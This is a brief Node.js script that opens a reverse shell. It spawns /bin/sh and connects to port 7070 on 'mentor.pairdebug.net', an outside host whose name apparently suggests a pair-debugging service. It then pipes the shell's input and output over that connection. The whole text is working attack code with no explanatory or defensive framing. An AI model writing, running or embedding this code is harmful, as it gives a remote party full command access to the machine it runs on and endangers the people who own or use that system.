const net = require("net");
const { spawn } = require("child_process");
const sh = spawn("/bin/sh", []);
const client = new net.Socket();
client.connect(7070, "mentor.pairdebug.net", () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
